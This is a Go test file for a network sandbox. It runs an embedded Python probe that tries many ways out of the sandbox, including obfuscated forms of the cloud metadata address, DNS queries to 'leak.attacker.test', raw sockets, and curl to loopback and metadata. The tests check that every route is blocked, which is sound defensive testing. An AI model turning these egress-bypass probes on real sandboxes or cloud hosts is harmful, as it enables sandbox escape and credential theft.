package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// probe.py tries to leave the cell in one way and prints the result. Its time
// limit distinguishes "refused at once" from "waited for".
const probePython = `import os, socket, struct, sys

def question(name):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)

def dial(kind, host, port):
    info = socket.getaddrinfo(host, int(port), type=kind)[0]
    s = socket.socket(info[0], kind)
    s.settimeout(5)
    s.connect(info[4])
    return s

def tcp(host, port):
    s = dial(socket.SOCK_STREAM, host, port)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return "got %d bytes" % len(s.recv(100)) if s.recv(1, socket.MSG_PEEK) else "refused: closed"

def udp(host, port):
    s = dial(socket.SOCK_DGRAM, host, port)
    s.send(b"leak")
    s.send(b"leak")
    return "got %d bytes" % len(s.recv(100))

def dns(host, name):
    s = dial(socket.SOCK_DGRAM, host, 53)
    s.send(question(name))
    return "rcode %d" % (s.recv(512)[3] & 15)

def dnstcp(host, name):
    s = dial(socket.SOCK_STREAM, host, 53)
    q = question(name)
    s.sendall(struct.pack(">H", len(q)) + q)
    return "rcode %d" % (s.recv(512)[5] & 15)

def unix(name):
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + name[1:] if name[0] == "@" else name)
    return "connected"

def make(*numbers):
    socket.socket(*map(int, numbers))
    return "made"

try:
    print(globals()[sys.argv[1]](*sys.argv[2:]))
except socket.timeout:
    print("timed out")
except OSError as e:
    print("refused:", type(e).__name__, e)
`

// outside is an address of this host that is not loopback, "" if it has none. It
// may be the one that the cell has as its own; then the probe stays inside.
func outside() string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && n.IP.IsGlobalUnicast() {
			return n.IP.String()
		}
	}
	return ""
}

// TestEgressProbes tries the ways around a proxy, from any program, under a
// policy that allows much: one host, for every program. Nothing reaches the
// servers on the host's own addresses, and nothing waits for a time-out.
func TestEgressProbes(t *testing.T) {
	t.Parallel()
	need(t, "/usr/bin/python3")
	reset, refused := `^refused: (ConnectionResetError|closed)`, `^refused: `
	probes := []struct {
		name   string
		listen string // where a server waits: PORT stands for its port in args
		args   string
		want   string
		class  int
		reason string
	}{
		{"address", "", "tcp 1.1.1.1 443", reset, networkActivity, "1.1.1.1"},
		{"host's address", "0.0.0.0", "tcp HOST PORT", refused, 0, ""},
		{"host's loopback", "127.0.0.1", "tcp 127.0.0.1 PORT", `ConnectionRefusedError`, 0, ""},
		{"all of loopback", "0.0.0.0", "tcp 127.99.0.1 PORT", `ConnectionRefusedError`, 0, ""},
		{"unspecified", "0.0.0.0", "tcp 0.0.0.0 PORT", `ConnectionRefusedError`, 0, ""},
		{"loopback mapped", "127.0.0.1", "tcp ::ffff:127.0.0.1 PORT", `ConnectionRefusedError`, 0, ""},
		{"loopback 6", "::1", "tcp ::1 PORT", refused, 0, ""},
		{"address 6", "", "tcp 2606:4700:4700::1111 443", refused, 0, ""},
		{"address mapped", "", "tcp ::ffff:1.1.1.1 443", reset, networkActivity, "1.1.1.1"},
		{"host's address mapped", "0.0.0.0", "tcp ::ffff:HOST PORT", refused, 0, ""},
		{"metadata", "", "tcp 169.254.169.254 80", reset, networkActivity, "169.254.169.254"},
		{"metadata mapped", "", "tcp ::ffff:169.254.169.254 80", reset, networkActivity, "169.254.169.254"},
		{"metadata as a number", "", "tcp 2852039166 80", reset, networkActivity, "169.254.169.254"},
		{"metadata 6", "", "tcp fd00:ec2::254 80", refused, 0, ""},
		{"metadata NAT64", "", "tcp 64:ff9b::a9fe:a9fe 80", refused, 0, ""},
		{"own resolver", "", "dns 8.8.8.8 leak.attacker.test", `^rcode 3`, dnsActivity, "leak.attacker.test"},
		{"own resolver over TCP", "", "dnstcp 8.8.8.8 leak.attacker.test", `^rcode 3`, dnsActivity, "leak.attacker.test"},
		{"name of the host's network", "", "tcp localhost.localdomain.attacker.test 80", refused, dnsActivity, "attacker.test"},
		{"UDP", "udp", "udp HOST PORT", refused, 0, ""},
		{"UDP far away", "", "udp 1.1.1.1 9999", refused, 0, ""},
		{"UDP to loopback", "udp", "udp 127.0.0.1 PORT", refused, 0, ""},
		{"QUIC", "", "udp 1.1.1.1 443", refused, 0, ""},
		{"abstract socket", "abstract", "unix PORT", `ConnectionRefusedError`, 0, ""},
		{"socket file", "file", "unix PORT", refused, 0, ""},
		{"ICMP", "", "make 2 2 1", `PermissionError`, 0, ""},
		{"raw", "", "make 2 3 255", `PermissionError`, 0, ""},
		{"packet", "", "make 17 3 768", `PermissionError`, 0, ""},
		{"vsock", "", "make 40 1 0", `PermissionError`, 0, ""},
		{"SCTP", "", "make 2 1 132", refused, 0, ""},
	}
	l := newLab(t)
	l.write("probe.py", probePython)
	api := l.site("api.example.com", says(payload))
	scripts, checks := make([]string, len(probes)), make([]func(*testing.T), len(probes))
	for i, p := range probes {
		scripts[i], checks[i] = l.wait(p.listen, "/usr/bin/python3 probe.py "+p.args)
	}
	o, said := l.batch(rule("host: api.example.com, port: 443, protocol: rest, access: full", "/**"), scripts)
	api.untouched(t)
	for i, p := range probes {
		t.Run(p.name, func(t *testing.T) {
			if checks[i] == nil {
				t.Skipf("this host has no address for it: %s", scripts[i])
			}
			if !regexp.MustCompile(p.want).MatchString(said[i]) {
				t.Errorf("%s: %s, want %s", scripts[i], said[i], p.want)
			}
			if p.class != 0 {
				o.denied(p.class, p.reason)
			}
			checks[i](t)
		})
	}
}

// wait starts a server of a kind on the host, completes a probe's arguments and
// returns a function that checks that nothing connected; nil if the host has no such
// address.
func (l *lab) wait(kind, args string) (string, func(*testing.T)) {
	l.Helper()
	if strings.Contains(args, "HOST") {
		host := outside()
		if host == "" {
			return args, nil
		}
		args = strings.ReplaceAll(args, "HOST", host)
	}
	var at string
	var check func(*testing.T)
	switch kind {
	case "":
		return args, func(*testing.T) {}
	case "udp":
		at, check = l.waitUDP()
	case "abstract", "file":
		at, check = l.waitUnix(kind == "file")
	default:
		s := l.raw("", 0, "tcp", net.JoinHostPort(kind, "0"), func(c net.Conn) { _, _ = io.WriteString(c, payload) })
		if s == nil {
			return args, nil
		}
		_, port, err := net.SplitHostPort(s.addr)
		l.ok(err)
		at, check = port, s.untouched
	}
	return strings.ReplaceAll(args, "PORT", at), check
}

func (l *lab) waitUnix(file bool) (string, func(*testing.T)) {
	l.Helper()
	name := fmt.Sprintf("@forkcell-egress-%d", os.Getpid())
	if file {
		dir, err := os.MkdirTemp("", "lab") // a socket's path has to be short
		l.ok(err)
		l.Cleanup(func() { _ = os.RemoveAll(dir) })
		name = filepath.Join(dir, "s")
	}
	listener, err := net.ListenUnix("unix", &net.UnixAddr{Name: name, Net: "unix"})
	l.ok(err)
	l.Cleanup(func() { _ = listener.Close() })
	return name, func(t *testing.T) {
		t.Helper()
		// Connections wait in the queue; the test's own is the last.
		own, err := net.Dial("unix", name)
		must(t, err)
		defer func() { _ = own.Close() }()
		_, err = own.Write([]byte("own"))
		must(t, err)
		c, err := listener.Accept()
		must(t, err)
		defer func() { _ = c.Close() }()
		b := make([]byte, 3)
		if _, err := io.ReadFull(c, b); err != nil || string(b) != "own" {
			t.Errorf("somebody has connected and sent %q, %v", b, err)
		}
	}
}

func (l *lab) waitUDP() (string, func(*testing.T)) {
	l.Helper()
	c, err := net.ListenPacket("udp4", "0.0.0.0:0")
	l.ok(err)
	l.Cleanup(func() { _ = c.Close() })
	_, port, err := net.SplitHostPort(c.LocalAddr().String())
	l.ok(err)
	return port, func(t *testing.T) {
		t.Helper()
		self, err := net.Dial("udp4", "127.0.0.1:"+port)
		must(t, err)
		defer func() { _ = self.Close() }()
		_, err = self.Write([]byte("own"))
		must(t, err)
		b := make([]byte, 16)
		n, from, err := c.ReadFrom(b)
		if err != nil || string(b[:n]) != "own" {
			t.Errorf("%q from %v, %v", b[:n], from, err)
		}
	}
}

// TestEgressGrants shows what not even the operator can point a name at, and
// that a policy cannot name it either.
func TestEgressGrants(t *testing.T) {
	t.Parallel()
	need(t, "/usr/bin/curl")
	t.Run("pin", func(t *testing.T) {
		t.Parallel()
		l := newLab(t)
		l.site("api.example.com", says(payload))
		policy := rule("host: api.example.com, port: 443, protocol: rest, access: full", "/**")
		l.run(policy, "true").says(0, "")
		code, _, errs := l.forkcell("run", "--policy", "policy.yaml", "--resolve", "api.example.com=169.254.169.254", "box", "--", "true")
		if code != 2 {
			t.Errorf("exit %d: %s", code, errs)
		}
	})
	for _, address := range []string{"169.254.169.254", "127.0.0.1"} {
		t.Run(address, func(t *testing.T) {
			t.Parallel()
			l := newLab(t)
			l.run(rule("host: api.example.com, port: 443, protocol: rest, access: full", "/**"), "true").says(0, "")
			l.ok(os.WriteFile(filepath.Join(l.dir, "policy.yaml"), []byte(rule("host: "+address+", port: 80, protocol: rest, access: full", "/**")), 0o644))
			code, out, errs := l.forkcell("run", "--quiet", "--policy", "policy.yaml", "box", "--", "curl", "-sS", "-m", "5", "--fail", "http://"+address+"/")
			if code == 0 {
				t.Errorf("it went through: %s%s", out, errs)
			}
			t.Logf("exit %d: %s%s", code, out, errs)
		})
	}
}
